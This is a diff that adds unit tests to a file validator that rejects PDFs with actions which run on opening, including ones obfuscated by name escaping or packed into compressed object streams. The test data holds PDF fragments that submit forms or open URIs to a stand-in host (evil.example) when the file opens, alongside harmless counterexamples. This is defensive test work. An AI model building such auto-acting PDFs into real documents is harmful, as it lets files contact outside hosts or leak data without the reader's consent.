@@ -142,6 +142,33 @@ TEST_F(Files, refuses_a_pdf_that_acts_by_itself_however_it_spells_it) {
     EXPECT_EQ(reason(pdf("/OpenAction [1 0 R /Fit]")), nullptr);
 }
 
+TEST_F(Files, refuses_a_pdf_that_sends_fetches_or_plays_when_it_is_opened) {
+    for (std::string_view const active :
+         {"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>", "/AA 7 0 R",
+          "/#41A<</C 8 0 R>>", "/A << /S /GoToR /F (//evil/x.pdf) >>", "/A << /S /GoToE >>",
+          "/A << /S /ImportData >>", "/A << /S /Rendition >>", "/Subtype /Movie", "/S /Sound",
+          "/OpenAction << /S /URI /URI (https://evil.example/) >>",
+          "/OpenAction << /Next 5 0 R /S /Named /N /Print >>", "/OpenAction 9 0 R",
+          "/OpenAction 2 0 R >>\nendobj\n2 0 obj\n<< /S /URI /URI (https://evil.example/)"})
+        EXPECT_EQ(reason(pdf(std::string(active))), &msg::refused_active_pdf) << active;
+    for (std::string_view const quiet :
+         {"/OpenAction << /S /GoTo /D [1 0 R /Fit] >>", "/Lang (AA) /AAPL true",
+          "/OpenAction 2 0 R >>\nendobj\n2 0 obj\n[1 0 R /XYZ 0 0 0] <<",
+          "/OpenAction 2 0 R >>\nendobj\n2 0 obj\n<< /S /GoTo /D [1 0 R /Fit]"})
+        EXPECT_EQ(reason(pdf(std::string(quiet))), nullptr) << quiet;
+}
+
+TEST_F(Files, follows_what_is_done_on_opening_into_packed_objects) {
+    auto const with = [](std::string const& action) {
+        return pdf(
+            "/OpenAction 6 0 R >>\nendobj\n2 0 obj\n<< /Type /ObjStm /N 2 /First 9 "
+            "/Filter /FlateDecode >>\nstream\n" +
+            packed("5 0 6 4  [ 1]" + action) + "\nendstream");
+    };
+    EXPECT_EQ(reason(with("<< /S /GoTo /D [1 0 R /Fit] >>")), nullptr);
+    EXPECT_EQ(reason(with("<< /S /URI /URI (https://evil.example/) >>")), &msg::refused_active_pdf);
+}
+
 TEST_F(Files, refuses_what_did_not_arrive_whole) {
     for (auto const& [whole, why] : {std::pair{pdf(""), &msg::refused_broken_pdf},
                                      std::pair{jpeg(), &msg::refused_broken_image},
